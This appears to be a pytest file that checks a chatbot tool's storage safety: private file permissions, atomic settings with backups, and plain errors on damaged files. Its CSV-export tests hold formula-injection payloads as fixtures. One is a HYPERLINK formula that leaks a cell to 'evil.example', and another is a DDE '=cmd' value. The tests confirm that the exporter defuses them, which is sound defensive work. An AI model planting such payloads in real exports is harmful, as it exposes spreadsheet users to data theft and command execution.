"""Data at rest (issue 12): what BotStudio keeps under data/ is private to its user, lead
exports are written only when asked and never run as spreadsheet formulas, settings are
replaced atomically with the previous version kept, and a damaged settings file or
database stops every command with one plain sentence instead of a silent start without
the password or the bindings. Real files, real SQLite, real `launch.py` processes."""

from __future__ import annotations

import csv
import json
import logging
import os
import re
import signal
import sqlite3
import stat
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import httpx
import pytest

from runtime.leads.store import Lead, LeadStore
from runtime.store.damaged import DamagedState
from runtime.store.db import Journal
from runtime.store.settings import Settings
from runtime.workspace import Workspace
from tests.fake_wecom import free_port

ROOT = Path(__file__).resolve().parent.parent
KEY = "0b8f3e2a-1c4d-4e5f-9a6b-7c8d9e0f1a2b"
EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"click me")'


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def launch(*args: str, data: Path, bots: Path, lang: str = "en", **popen):
    """`python launch.py --bots B --data D ARGS`, with a permissive umask (022), so that
    the modes seen below are BotStudio's doing, not the test runner's."""
    env = {**os.environ, "BOTSTUDIO_LANG": lang, "BOTSTUDIO_THREADS": "2", **popen.pop("env", {})}
    command = [sys.executable, str(ROOT / "launch.py"), "--bots", str(bots), "--data", str(data)]
    if popen.pop("background", False):
        return subprocess.Popen(
            [*command, *args],
            cwd=ROOT,
            env=env,
            umask=0o022,
            text=True,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
    return subprocess.run(
        [*command, *args],
        cwd=ROOT,
        env=env,
        umask=0o022,
        capture_output=True,
        text=True,
        timeout=120,
    )


class Server:
    """`launch.py` serving on a free port until stopped as systemd stops it (SIGTERM)."""

    def __init__(self, data: Path, bots: Path, **env: str):
        self.port = free_port()
        self.process = launch(
            "--port", str(self.port), data=data, bots=bots, env=env, background=True
        )
        deadline = time.monotonic() + 90
        while True:
            try:
                httpx.get(f"http://127.0.0.1:{self.port}/healthz", timeout=2).raise_for_status()
                return
            except httpx.TransportError:
                assert self.process.poll() is None, self.process.stdout.read()
                assert time.monotonic() < deadline, "the server did not come up"
                time.sleep(0.3)

    def stop(self) -> str:
        self.process.send_signal(signal.SIGTERM)
        output, _ = self.process.communicate(timeout=60)
        return output


def modes_under(root: Path) -> dict[str, str]:
    """Every folder and file under `root` (and root itself) with its mode, as text."""
    found = {".": oct(mode(root))}
    for path in sorted(root.rglob("*")):
        found[str(path.relative_to(root))] = oct(mode(path))
    return found


def all_private(root: Path) -> dict[str, str]:
    """What under `root` is not private: folders must be 0700, files 0600."""
    return {
        name: found
        for name, found in modes_under(root).items()
        if found != oct(0o700 if (root / name).is_dir() else 0o600)
    }


def read_leads_csv(path: Path) -> list[dict[str, str]]:
    """The rows of a leads CSV keyed as the bot file names them: the first column is the
    customer ("user"), a field's column is its label with its key in brackets."""
    header, *rows = csv.reader(path.open(encoding="utf-8-sig", newline=""))
    keys = ["user"] + [re.sub(r".*[(（](\w+)[)）]$", r"\1", name) for name in header[1:]]
    return [dict(zip(keys, row, strict=True)) for row in rows]


def save_lead(data: Path, user: str, company: str, phone: str = "13812345678") -> None:
    journal = Journal(data / "botstudio.sqlite3")
    now = time.time()
    fields = {"company": {"value": company, "at": now}, "phone": {"value": phone, "at": now}}
    LeadStore(journal).save(Lead("xiaolan-sales", user, user, "A", fields, converted=True))
    journal.close()


# --- 4. file permissions ------------------------------------------------------------


def test_a_new_install_keeps_everything_under_data_private(tmp_path: Path, bots_dir: Path):
    data = tmp_path / "data"
    server = Server(data, bots_dir)
    try:
        settings = data / "settings.json"
        assert not settings.exists() or settings.stat().st_size > 0  # no empty placeholder
        bound = launch("bind", "xiaolan-sales", "--webhook", KEY, data=data, bots=bots_dir)
        assert bound.returncode == 0, bound.stderr
        running = modes_under(data)  # while the server holds the journal open
    finally:
        server.stop()
    for name in (
        "botstudio.sqlite3",
        "botstudio.sqlite3-wal",
        "botstudio.sqlite3-shm",
        "settings.json",
        "settings.json.bak",
        "logs",
        "logs/botstudio.log",
    ):
        assert name in running, f"{name} was not written: {sorted(running)}"
    wrong = {n: m for n, m in running.items() if m != oct(0o700 if (data / n).is_dir() else 0o600)}
    assert wrong == {}, "readable by others"
    assert all_private(data) == {}


def test_an_older_install_is_made_private_when_it_starts(tmp_path: Path, bots_dir: Path):
    data = tmp_path / "data"
    (data / "logs").mkdir(parents=True)
    (data / "experiments").mkdir()
    old_settings = {"_default": {"1": {"key": "language", "value": "en"}}}
    (data / "settings.json").write_text(json.dumps(old_settings), encoding="utf-8")
    (data / "logs" / "botstudio.log").write_text("old log\n", encoding="utf-8")
    (data / "logs" / "botstudio.log.1").write_text("older log\n", encoding="utf-8")
    (data / "experiments" / "xiaolan-sales-1.json").write_text("{}", encoding="utf-8")
    # a journal as an older version left it after a crash: readable, with its -wal and -shm
    crashed = textwrap.dedent(f"""
        import os, sqlite3
        db = sqlite3.connect({str(data / "botstudio.sqlite3")!r}, isolation_level=None)
        db.execute("PRAGMA journal_mode=WAL")
        db.execute("CREATE TABLE notes (text TEXT)")
        db.execute("INSERT INTO notes VALUES ('13812345678')")
        os._exit(0)
    """)
    subprocess.run([sys.executable, "-c", crashed], check=True, umask=0o022)
    for path in [data, *data.rglob("*")]:
        os.chmod(path, 0o755 if path.is_dir() else 0o644)
    assert {"botstudio.sqlite3-wal", "botstudio.sqlite3-shm"} <= {p.name for p in data.iterdir()}

    Server(data, bots_dir).stop()

    assert all_private(data) == {}
    assert Settings(data / "settings.json").get("language") == "en"  # tightened, not rewritten
    db = sqlite3.connect(data / "botstudio.sqlite3")
    assert db.execute("SELECT text FROM notes").fetchall() == [("13812345678",)]
    db.close()


def test_log_files_stay_private_when_they_rotate(tmp_path: Path):
    from runtime.logmask import PrivateRotatingFileHandler

    old = os.umask(0o022)
    try:
        handler = PrivateRotatingFileHandler(
            tmp_path / "botstudio.log", maxBytes=200, backupCount=3, encoding="utf-8"
        )
        for n in range(40):
            handler.emit(logging.makeLogRecord({"msg": f"line {n} " + "x" * 40}))
        handler.close()
    finally:
        os.umask(old)
    files = {p.name: oct(mode(p)) for p in tmp_path.iterdir()}
    names = ["botstudio.log", "botstudio.log.1", "botstudio.log.2", "botstudio.log.3"]
    assert files == dict.fromkeys(names, oct(0o600))


def test_an_adopted_experiment_is_archived_privately(tmp_path: Path, bots_dir: Path):
    from runtime.experiments.adopt import adopt

    workspace = Workspace(bots_dir, tmp_path / "data", tmp_path / "gguf", "en")
    spec = workspace.bots.load("xiaolan-sales")
    old = os.umask(0o022)
    try:
        adopt(workspace.bots, spec, "B", {"advice": "B"}, workspace.data_dir / "experiments")
    finally:
        os.umask(old)
    archive = workspace.data_dir / "experiments" / f"xiaolan-sales-{spec.experiment.seed}.json"
    assert json.loads(archive.read_text(encoding="utf-8"))["adopted"] == "B"
    assert all_private(workspace.data_dir) == {}


# --- 5. the leads CSV ------------------------------------------------------------------


def test_the_cli_csv_never_runs_a_cell_as_a_formula(tmp_path: Path, bots_dir: Path):
    data = tmp_path / "data"
    companies = [
        EVIL,
        "+1 555 0100",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTab Co",
        "\rCR Co",
        "蓝莺科技",
        "A=B Ltd",
    ]
    for n, company in enumerate(companies):
        save_lead(data, f"user{n}", company)
    save_lead(data, "=cmd|'/c calc'!A1", "Plain Co")  # a WeCom user id is typed by people too
    out = tmp_path / "leads.csv"
    result = launch("leads", "xiaolan-sales", "--csv", str(out), data=data, bots=bots_dir)
    assert result.returncode == 0, result.stderr
    rows = read_leads_csv(out)
    by_user = {row["user"]: row["company"] for row in rows}
    assert [by_user[f"user{n}"] for n in range(len(companies))] == [
        "'" + EVIL,
        "'+1 555 0100",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\tTab Co",
        "'\rCR Co",
        "蓝莺科技",
        "A=B Ltd",
    ]
    assert by_user["'=cmd|'/c calc'!A1"] == "Plain Co"
    assert {row["phone"] for row in rows} == {"13812345678"}  # plain values stay as they are
    assert mode(out) == 0o600


@pytest.fixture
def leads_tab(tmp_path: Path, bots_dir: Path, monkeypatch: pytest.MonkeyPatch):
    """The studio's handlers for the 📇 线索 tab, with every temporary folder under
    tmp_path (Gradio's cache too), and one lead whose company is a formula."""
    import tempfile

    from runtime.server.hub import ChannelHub
    from studio.app import build_studio

    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path / "gradio"))
    (tmp_path / "tmp").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    save_lead(tmp_path / "data", "alice", EVIL)
    workspace = Workspace(bots_dir, tmp_path / "data", tmp_path / "gguf", "en")
    on_shutdown: list = []
    demo = build_studio(workspace, "en", ChannelHub(workspace), on_shutdown=on_shutdown)
    handlers = {f.name: f.fn for f in demo.fns.values()}
    return handlers, tmp_path, on_shutdown


def test_opening_the_leads_tab_writes_no_file(leads_tab) -> None:
    handlers, tmp_path, _ = leads_tab

    def files() -> set[Path]:  # everywhere a temporary file could go
        return {p for folder in ("tmp", "gradio") for p in (tmp_path / folder).rglob("*")}

    before = files()
    table, people, _variants = handlers["listing"]("xiaolan-sales", "", "", "")
    assert people["choices"] == [("alice", "alice")]  # the person, by name
    assert EVIL in str(table["value"])  # the table as is
    assert files() == before


def test_export_writes_a_private_csv_only_when_asked_and_removes_it_at_shutdown(
    leads_tab,
) -> None:
    handlers, tmp_path, on_shutdown = leads_tab
    paths = [Path(handlers["export_csv"]("xiaolan-sales", "", "", "")) for _ in range(6)]
    latest = paths[-1]
    assert latest.is_relative_to(tmp_path / "gradio")  # Gradio serves it without a copy
    rows = read_leads_csv(latest)
    assert rows[0]["user"] == "alice" and rows[0]["company"] == "'" + EVIL
    assert mode(latest) == 0o600
    assert mode(latest.parent) == 0o700 and mode(latest.parent.parent) == 0o700
    kept = [p for p in paths if p.exists()]
    assert kept == paths[-4:]  # earlier exports are removed as new ones are made
    assert list((tmp_path / "tmp").rglob("*")) == []
    for callback in on_shutdown:  # what the server runs when it stops
        callback()
    assert list((tmp_path / "gradio").rglob("*.csv")) == []


# --- 6. atomic settings, damaged state ------------------------------------------------


def test_each_change_keeps_the_previous_settings_as_a_private_backup(tmp_path: Path):
    path = tmp_path / "data" / "settings.json"
    settings = Settings(path)
    assert not path.exists()  # nothing is written until there is something to keep
    settings.set("language", "zh")
    backup = path.with_name("settings.json.bak")
    assert json.loads(backup.read_text(encoding="utf-8")) == json.loads(path.read_text())
    settings.set("language", "en")
    assert Settings(backup).get("language") == "zh" and Settings(path).get("language") == "en"
    settings.set_password("correct horse")
    assert Settings(backup).get("language") == "en" and Settings(path).check_password(
        "correct horse"
    )
    assert mode(path) == mode(backup) == 0o600


def test_settings_read_from_memory_still_show_every_change_at_once(tmp_path: Path):
    """The server reads settings on every callback from what it read last, and reads the
    file again when it is another file: a binding made by `launch.py bind` (another
    process) or a damaged file shows at once; a caller changing a value it was given
    changes nothing stored."""
    path = tmp_path / "data" / "settings.json"
    server = Settings(path)
    assert server.get("binding:bot", {}) == {}
    Settings(path).set("binding:bot", {"aibot": {"token": "T1"}})  # as another process
    binding = server.get("binding:bot")
    assert binding == {"aibot": {"token": "T1"}}
    binding["aibot"]["token"] = "changed by a caller"
    assert server.get("binding:bot") == {"aibot": {"token": "T1"}}
    assert server.keys_with_prefix("binding:") == ["binding:bot"]
    Settings(path).delete("binding:bot")
    assert server.get("binding:bot") is None and server.keys_with_prefix("binding:") == []
    server.set("language", "zh")
    assert server.get("language") == "zh"
    path.write_text("{ not settings", encoding="utf-8")
    with pytest.raises(DamagedState):
        server.get("language")


def test_a_crash_in_the_middle_of_a_write_leaves_the_old_settings(tmp_path: Path):
    path = tmp_path / "settings.json"
    Settings(path).set_password("old password")
    before = path.read_bytes()
    crash = textwrap.dedent(f"""
        import os, sys
        sys.path.insert(0, {str(ROOT)!r})
        from pathlib import Path
        from runtime.store.settings import Settings
        target, rename = {str(path)!r}, os.replace
        def dies_first(src, dst):  # the process dies just before the new file takes over
            if str(dst) == target:
                os._exit(9)
            rename(src, dst)
        os.replace = dies_first
        Settings(Path(target)).set_password("new password")
    """)
    assert subprocess.run([sys.executable, "-c", crash], timeout=60).returncode == 9
    assert path.read_bytes() == before
    assert Settings(path).check_password("old password")


def test_killing_a_writer_at_any_moment_never_leaves_broken_settings(tmp_path: Path):
    path = tmp_path / "settings.json"
    writer = textwrap.dedent(f"""
        import sys
        sys.path.insert(0, {str(ROOT)!r})
        from pathlib import Path
        from runtime.store.settings import Settings
        settings = Settings(Path({str(path)!r}))
        n = 0
        while True:
            n += 1
            settings.set("counter", n)
            settings.set("padding", "x" * (n % 997) * 50)
            print(n, flush=True)
    """)
    process = subprocess.Popen([sys.executable, "-c", writer], stdout=subprocess.PIPE, text=True)
    done = [int(process.stdout.readline()) for _ in range(60)][-1]
    process.kill()
    process.wait(timeout=30)
    settings = Settings(path)  # opens: neither the file nor its backup is damaged
    assert settings.get("counter") >= done
    backup = Settings(path.with_name("settings.json.bak"))
    assert backup.get("counter") >= done - 1


def damaged_settings(data: Path) -> Path:
    settings = Settings(data / "settings.json")
    settings.set_password("correct horse")
    settings.set("binding:xiaolan-sales", {"webhook": {"key": KEY}})
    raw = settings.path.read_bytes()
    settings.path.write_bytes(raw[: len(raw) // 2])  # a write cut short, by another program
    return settings.path


def emptied_settings(data: Path) -> Path:
    path = damaged_settings(data)
    path.write_bytes(b"")
    return path


def empty_journal(data: Path) -> Path:
    data.mkdir(parents=True)
    (data / "botstudio.sqlite3").write_bytes(b"")
    return data / "botstudio.sqlite3"


def garbage_journal(data: Path) -> Path:
    data.mkdir(parents=True)
    (data / "botstudio.sqlite3").write_bytes(b"this is not a database\n" * 200)
    return data / "botstudio.sqlite3"


DAMAGE = {
    "corrupt settings": damaged_settings,
    "emptied settings": emptied_settings,
    "0-byte journal": empty_journal,
    "garbage journal": garbage_journal,
}
COMMANDS = {"serve": [], "status": ["status"], "leads": ["leads", "xiaolan-sales"]}


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("damage", DAMAGE)
def test_damaged_state_stops_with_one_plain_sentence_and_is_left_alone(
    tmp_path: Path, bots_dir: Path, damage: str, command: str
):
    data = tmp_path / "data"
    damaged = DAMAGE[damage](data)
    before = {p.name: p.read_bytes() for p in data.iterdir() if p.is_file()}
    args = ["--port", str(free_port()), *COMMANDS[command]]  # status: nothing answers there
    result = launch(*args, data=data, bots=bots_dir)
    assert result.returncode == 1
    assert "Traceback" not in result.stdout + result.stderr
    message = result.stderr.strip()
    assert len(message.splitlines()) == 1 and str(damaged) in message
    assert "running at" not in result.stdout  # the server never started
    if "settings" in damage:  # it names the good earlier version to restore
        assert f"copy the previous version's backup {damaged}.bak over it" in message
    else:
        assert "move it (with any -wal and -shm files beside it) somewhere else" in message
    assert {name: (data / name).read_bytes() for name in before} == before  # byte for byte


def test_the_message_is_in_the_users_language_and_the_backup_it_names_works(
    tmp_path: Path, bots_dir: Path
):
    data = tmp_path / "data"
    path = damaged_settings(data)
    result = launch("--port", str(free_port()), "status", data=data, bots=bots_dir, lang="zh")
    assert result.returncode == 1
    assert result.stderr.startswith(f"设置文件 {path} 已损坏（不是有效的 JSON）")
    assert f"请用上一版的备份 {path}.bak 覆盖它" in result.stderr
    path.write_bytes(path.with_name("settings.json.bak").read_bytes())  # as the message says
    restored = Settings(path)
    assert restored.check_password("correct horse")  # the backup predates only the binding
    served = Server(data, bots_dir)
    served.stop()


def test_an_empty_settings_file_from_an_older_version_is_a_new_install(
    tmp_path: Path, bots_dir: Path
):
    data = tmp_path / "data"
    data.mkdir()
    (data / "settings.json").write_bytes(b"")  # what versions before this one created up front
    result = launch("bind", "xiaolan-sales", "--webhook", KEY, data=data, bots=bots_dir)
    assert result.returncode == 0, result.stderr
    assert Settings(data / "settings.json").get("binding:xiaolan-sales") == {
        "webhook": {"key": KEY}
    }
    assert (data / "settings.json.bak").stat().st_size > 0  # from now on, there is a backup


def test_systemd_does_not_restart_into_the_same_message(tmp_path: Path, bots_dir: Path):
    unit = launch("service", data=tmp_path / "data", bots=bots_dir).stdout
    assert "Restart=on-failure" in unit and "RestartPreventExitStatus=1" in unit
